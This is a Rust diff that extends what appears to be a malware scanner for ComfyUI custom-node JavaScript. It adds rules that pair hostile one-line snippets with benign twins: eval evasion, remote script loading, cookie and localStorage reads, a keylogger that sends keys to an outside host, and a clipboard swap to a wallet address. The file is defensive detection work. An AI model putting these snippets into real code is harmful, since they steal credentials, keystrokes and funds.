@@ -17,8 +17,17 @@ pub(crate) const EVAL: Rule = Rule {
         Example::found("const e = window.eval; window['ev' + 'al'](x)"),
         Example::found("new Function('a', body)"),
         Example::found("setTimeout('run()', 10)"),
+        Example::found("const run = eval; run(x)"),
+        Example::found("const { eval: run } = window; run(x)"),
+        Example::found("const s = document.createElement('script'); s.textContent = x"),
+        Example::found("import(`data:text/javascript,${x}`)"),
+        Example::twin("const s = document.createElement('style'); s.textContent = x"),
+        Example::found("[]['filter']['constructor']('return 1')()"),
+        Example::found("(async () => {}).constructor('return 1')()"),
+        Example::twin("this.constructor('x'); new x.constructor('x')"),
         Example::twin("model.eval()"),
         Example::twin("setTimeout(() => run(), 10)"),
+        Example::twin("(() => { const f = 'text' })(); setTimeout(f, 10)"),
         Example::twin("// eval(x)\nconst s = 'eval(x)'"),
         Example::twin("function eval2(x) {}; eval2(1)"),
     ],
@@ -55,6 +64,13 @@ pub(crate) const REMOTE_CODE: Rule = Rule {
         Example::found("importScripts('https://cdn.test/x.js')"),
         Example::found("s = document.createElement('script'); s.src = 'https://cdn.test/x.js'"),
         Example::found("navigator.serviceWorker.register('https://cdn.test/sw.js')"),
+        Example::found(
+            "const u = 'https://cdn.test/x'; const s = document.createElement('script'); s.src = u",
+        ),
+        Example::found("$.getScript('https://cdn.test/x.js')"),
+        Example::found("new Blob(['importScripts(\"https://cdn.test/x.js\")'])"),
+        Example::found("d.innerHTML = '<script src=https://cdn.test/x.js></script>'"),
+        Example::twin("d.innerHTML = '<script src=x.js></script>'"),
         Example::twin("import { app } from '../../scripts/app.js'"),
         Example::twin("img.src = 'https://x.test/a.png'"),
     ],
@@ -71,7 +87,6 @@ pub(crate) const REMOTE_REQUEST: Rule = Rule {
     examples: &[
         Example::found("fetch('https://x.test/a')"),
         Example::found("fetch(`https://x.test/${id}`)"),
-        Example::found("new WebSocket('wss://x.test')"),
         Example::found("navigator.sendBeacon('https://x.test', data)"),
         Example::found("xhr.open('POST', 'http://x.test/')"),
         Example::twin("fetch('/api/prompt')"),
@@ -92,6 +107,10 @@ pub(crate) const TOKEN_READ: Rule = Rule {
         Example::found("document.cookie.split(';')"),
         Example::found("localStorage.getItem('auth_token')"),
         Example::found("sessionStorage['apiKey']"),
+        Example::found("JSON.stringify(localStorage)"),
+        Example::found("d.innerHTML = `<img src=x onerror='f(document.cookie)'>`"),
+        Example::twin("JSON.stringify(localStorage.getItem('node.theme'))"),
+        Example::twin("d.innerHTML = `<img src=x onerror='this.remove()'>`"),
         Example::twin("localStorage.getItem('Comfy.Settings.theme')"),
         Example::twin("document.cookie = 'a=b'"),
     ],
@@ -127,6 +146,146 @@ pub(crate) const WEBHOOK: Rule = Rule {
     ],
 };
 
+const fn browser(
+    id: &'static str,
+    category: Category,
+    severity: Severity,
+    text: [&'static str; 3],
+    examples: &'static [Example],
+) -> Rule {
+    Rule {
+        id,
+        category,
+        severity,
+        intent: None,
+        reason: text[0],
+        why: text[1],
+        fix: text[2],
+        examples,
+    }
+}
+
+pub(crate) const REMOTE_SOCKET: Rule = browser(
+    "js-remote-socket",
+    Category::Ssrf,
+    Severity::Medium,
+    [
+        "the owner's browser keeps a connection to another server",
+        "Both ends send whenever they like, for as long as the page is open.",
+        "Look at what is sent and what is done with what arrives.",
+    ],
+    &[
+        Example::found("new WebSocket('wss://x.test')"),
+        Example::twin("new WebSocket(`ws://${location.host}/ws`)"),
+    ],
+);
+
+pub(crate) const SERVICE_WORKER: Rule = browser(
+    "js-service-worker",
+    Category::Persistence,
+    Severity::Medium,
+    [
+        "a service worker is registered",
+        "It stands between the page and ComfyUI, and stays in the browser when the node is gone.",
+        "Do without one; remove it in the browser's settings if it was registered.",
+    ],
+    &[
+        Example::found("navigator.serviceWorker.register('/sw.js', { scope: '/' })"),
+        Example::twin("navigator.serviceWorker.getRegistrations()"),
+    ],
+);
+
+pub(crate) const REPLACED: Rule = browser(
+    "js-replaced-function",
+    Category::CodeExec,
+    Severity::Medium,
+    [
+        "a function through which the page sends is replaced",
+        "All that ComfyUI's page sends and receives goes through the node's function.",
+        "Use ComfyUI's own hooks, such as api.addEventListener.",
+    ],
+    &[
+        Example::found("const old = window.fetch; window.fetch = (...a) => old(...a)"),
+        Example::found("Object.defineProperty(window, 'fetch', { value: f })"),
+        Example::twin("node.fetch = () => fetch('/x')"),
+    ],
+);
+
+pub(crate) const INSTALL_REQUEST: Rule = browser(
+    "js-install-request",
+    Category::PkgInstall,
+    Severity::Medium,
+    [
+        "ComfyUI-Manager is asked to install code",
+        "What is installed was chosen by the script, and runs with ComfyUI's rights.",
+        "Let the user install it, or declare it in comfy.toml.",
+    ],
+    &[
+        Example::found("api.fetchApi('/customnode/install/git_url', { method: 'POST', body: u })"),
+        Example::twin("api.fetchApi('/customnode/getlist')"),
+    ],
+);
+
+pub(crate) const QUEUE_REQUEST: Rule = browser(
+    "js-queue-request",
+    Category::CodeExec,
+    Severity::Medium,
+    [
+        "a workflow is queued by a script",
+        "It can hold any node that is installed, also one that runs code.",
+        "Use app.queuePrompt(), which queues what the user sees.",
+    ],
+    &[
+        Example::found("fetch('/prompt', { method: 'POST', body: b })"),
+        Example::twin("fetch('/prompt').then(r => r.json())"),
+        Example::twin("app.queuePrompt(0, 1)"),
+    ],
+);
+
+pub(crate) const KEYLOGGER: Rule = Rule {
+    intent: Some(Intent::Keylogger),
+    ..browser(
+        "js-keylogger",
+        Category::CredRead,
+        Severity::Critical,
+        [
+            "what is typed goes to another server",
+            "Passwords and prompts are typed.",
+            "Do not use the node.",
+        ],
+        &[
+            Example::found(
+                "document.addEventListener('keydown', e => { fetch('https://x.test/?k=' + e.key) })",
+            ),
+            Example::twin(
+                "document.addEventListener('keydown', e => { if (e.key === 'q') fetch('/queue') })",
+            ),
+        ],
+    )
+};
+
+pub(crate) const CLIPBOARD_SWAP: Rule = Rule {
+    intent: Some(Intent::Clipboard),
+    ..browser(
+        "js-clipboard-swap",
+        Category::CredRead,
+        Severity::Critical,
+        [
+            "what is copied is replaced by the address of a wallet",
+            "Coins are then sent to somebody else.",
+            "Do not use the node.",
+        ],
+        &[
+            Example::found(
+                "document.addEventListener('copy', e => { e.clipboardData.setData('text', '0x1111111111111111111111111111111111111111') })",
+            ),
+            Example::twin(
+                "document.addEventListener('copy', e => { e.clipboardData.setData('text', JSON.stringify(nodes)) })",
+            ),
+        ],
+    )
+};
+
 pub(crate) const RULES: &[Rule] = &[
     EVAL,
     HIDDEN_EVAL,
@@ -135,4 +294,11 @@ pub(crate) const RULES: &[Rule] = &[
     TOKEN_READ,
     CLIPBOARD_READ,
     WEBHOOK,
+    REMOTE_SOCKET,
+    SERVICE_WORKER,
+    REPLACED,
+    INSTALL_REQUEST,
+    QUEUE_REQUEST,
+    KEYLOGGER,
+    CLIPBOARD_SWAP,
 ];
